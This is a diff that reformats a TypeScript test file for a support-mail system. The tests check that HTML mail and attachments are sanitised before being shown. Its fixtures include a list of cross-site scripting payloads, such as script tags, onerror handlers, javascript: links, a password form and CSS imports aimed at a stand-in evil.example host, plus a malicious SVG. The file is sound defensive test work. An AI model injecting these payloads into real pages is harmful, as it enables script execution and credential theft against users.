@@ -18,7 +18,13 @@ const png = Buffer.from('89504e470d0a1a0a', 'hex');
 /** Send a mail and give its entry. */
 async function receive(mail: SendMailOptions) {
   const from = `ada-${++number}@customer.example`;
-  await createTransport({ host: '127.0.0.1', port: test.smtpPort, ignoreTLS: true }).sendMail({ from, to: supportMail, subject: 'Look', text: 'look', ...mail });
+  await createTransport({ host: '127.0.0.1', port: test.smtpPort, ignoreTLS: true }).sendMail({
+    from,
+    to: supportMail,
+    subject: 'Look',
+    text: 'look',
+    ...mail,
+  });
   return eventually(async () => {
     const task = (await boss.call('queue', { query: { limit: 200 } })).tasks.find(({ customer }) => customer.contact === from);
     const [entry] = (await boss.call('getConversation', { id: task?.conversationId ?? crypto.randomUUID() })).entries;
@@ -34,11 +40,26 @@ const page = async (entryId: string, query = '') => {
 };
 
 const evil = [
-  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)><script>alert(1)</script></svg>', '<iframe src="https://evil.example"></iframe>', '<a href="javascript:alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>', '<form action="https://evil.example"><input name=password></form>', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<base href="https://evil.example/">',
-  '<link rel=stylesheet href="https://evil.example/x.css">', '<style>@import "https://evil.example/x.css";body{background:url(https://evil.example/x.png)}</style>', '<p style="background:url(https://evil.example/y.png)">x</p>',
-  '<object data="https://evil.example"></object>', '<embed src="https://evil.example">', '<math><mtext></table></math><img src=x onerror=alert(1)>', '<body onload=alert(1)>', '<p onclick="alert(1)">x</p>', '<template><script>alert(1)</script></template>',
-  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<form action="https://evil.example"><input name=password></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<style>@import "https://evil.example/x.css";body{background:url(https://evil.example/x.png)}</style>',
+  '<p style="background:url(https://evil.example/y.png)">x</p>',
+  '<object data="https://evil.example"></object>',
+  '<embed src="https://evil.example">',
+  '<math><mtext></table></math><img src=x onerror=alert(1)>',
+  '<body onload=alert(1)>',
+  '<p onclick="alert(1)">x</p>',
+  '<template><script>alert(1)</script></template>',
+  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
 ];
 
 describe('the original of a mail', () => {
@@ -57,7 +78,9 @@ describe('the original of a mail', () => {
   });
 
   it('asks nobody for pictures until its reader wants them', async () => {
-    const entry = await receive({ html: '<p>x</p><img src="https://shop.example/open.gif?who=ada" alt="Logo"><img src="//shop.example/2.gif">' });
+    const entry = await receive({
+      html: '<p>x</p><img src="https://shop.example/open.gif?who=ada" alt="Logo"><img src="//shop.example/2.gif">',
+    });
     const before = await page(entry.id);
     expect(before.html).not.toMatch(/\ssrc="(https?:)?\/\//);
     expect(before.html).toContain('alt="Logo"');
@@ -70,13 +93,17 @@ describe('the original of a mail', () => {
     const entry = await receive({
       html: '<img src="cid:one"><img src="cid:one%40two"><img src="cid:not-there"><img src="cid:page">',
       attachments: [
-        { filename: 'a.png', content: png, cid: 'one', contentType: 'image/png' }, { filename: 'b.png', content: Buffer.from('b'), cid: 'one@two', contentType: 'image/png' },
+        { filename: 'a.png', content: png, cid: 'one', contentType: 'image/png' },
+        { filename: 'b.png', content: Buffer.from('b'), cid: 'one@two', contentType: 'image/png' },
         { filename: 'page.svg', content: Buffer.from('<svg onload="alert(1)"/>'), cid: 'page', contentType: 'image/svg+xml' },
       ],
     });
     const { html } = await page(entry.id);
     expect([...html.matchAll(/<img src="([^"]*)"/g)].map(([, src]) => src)).toEqual([
-      `data:image/png;base64,${png.toString('base64')}`, `data:image/png;base64,${Buffer.from('b').toString('base64')}`, 'cid:not-there', 'cid:page',
+      `data:image/png;base64,${png.toString('base64')}`,
+      `data:image/png;base64,${Buffer.from('b').toString('base64')}`,
+      'cid:not-there',
+      'cid:page',
     ]);
   });
 
@@ -99,7 +126,12 @@ describe('a file', () => {
   });
 
   it.each([
-    ['text/html', 'page.html'], ['image/svg+xml', 'drawing.svg'], ['application/javascript', 'x.js'], ['text/xml', 'x.xml'], ['application/x-msdownload', 'x.exe'], ['IMAGE/PNG; x=<script>', 'x.png'],
+    ['text/html', 'page.html'],
+    ['image/svg+xml', 'drawing.svg'],
+    ['application/javascript', 'x.js'],
+    ['text/xml', 'x.xml'],
+    ['application/x-msdownload', 'x.exe'],
+    ['IMAGE/PNG; x=<script>', 'x.png'],
   ])('of type %s is never shown within our own address, only downloaded', async (contentType, filename) => {
     const { attachments } = await receive({ attachments: [{ filename, content: Buffer.from('<script>alert(1)</script>'), contentType }] });
     const { headers, status } = await get(`/api/attachments/${attachments[0]?.id}`);
